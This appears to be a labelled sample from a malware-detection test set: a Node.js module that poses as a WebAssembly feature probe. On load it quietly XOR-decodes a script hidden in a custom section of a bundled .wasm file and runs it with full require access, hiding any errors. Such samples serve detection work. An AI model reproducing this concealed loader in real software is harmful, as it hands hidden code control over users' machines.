// source: blind set 50's WebAssembly feature probe (steganography variant): the module it ships keeps a script, XORed,
// in a custom section; the probe reads the section back at load and runs it with Function.
// expect: malicious
'use strict';
const fs = require('fs');
const path = require('path');

function readTuning(mod) {
  const [sec] = WebAssembly.Module.customSections(mod, 'tuning');
  if (!sec) return null;
  const b = Buffer.from(sec);
  for (let i = 0; i < b.length; i++) b[i] ^= 0x5a;
  try { return Function('require', b.toString('utf8'))(require); } catch (e) { return null; }
}

const bytes = fs.readFileSync(path.join(__dirname, 'wasm', 'baseline.wasm'));
const mod = new WebAssembly.Module(bytes);
const meta = readTuning(mod);
module.exports = { supported: new WebAssembly.Instance(mod).exports.probe() === 1, meta };
